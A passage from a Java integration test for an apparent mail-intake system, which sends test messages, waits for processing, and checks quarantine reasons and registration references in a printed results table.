            mail.send(goodSender, INTAKE, TestMessages.plainNotification(goodSender, goodId,
                    TestMessages.completeForm("good-" + i)));
        }

        // done with every message: each stored copy out of RECEIVED, each good one registered
        settle().atMost(Duration.ofSeconds(120)).until(() ->
                kinds.stream().allMatch(kind -> count("SELECT COUNT(*) FROM stored_message WHERE message_id = ? "
                        + "AND state <> 'RECEIVED'", kind.messageId()) >= kind.storedCopies())
                        && good.stream().allMatch(id -> notifications(id) == 1));

        StringBuilder table = new StringBuilder("\n| kind | expected | got |\n|---|---|---|\n");
        for (int i = 0; i < kinds.size(); i++) {
            Kind kind = kinds.get(i);
            kind.outcome().check(kind, softly);
            String got = jdbc.sql("SELECT reason_code || ' (' || stage || ')' FROM quarantine WHERE message_id = ? "
                    + "ORDER BY id DESC").param(kind.messageId()).query(String.class).list().stream().findFirst()
                    .orElse(reference(kind.messageId()) != null ? "registered" : state(kind.messageId()));
            table.append("| ").append(kind.name()).append(" | ").append(kind.expected()).append(" | ").append(got)
                    .append(" |\n");
            softly.assertThat(reference(good.get(i))).as("the good message after: " + kind.name()).startsWith("SIR-");
        }
        System.out.println(table);
        softly.assertAll();
    }
}
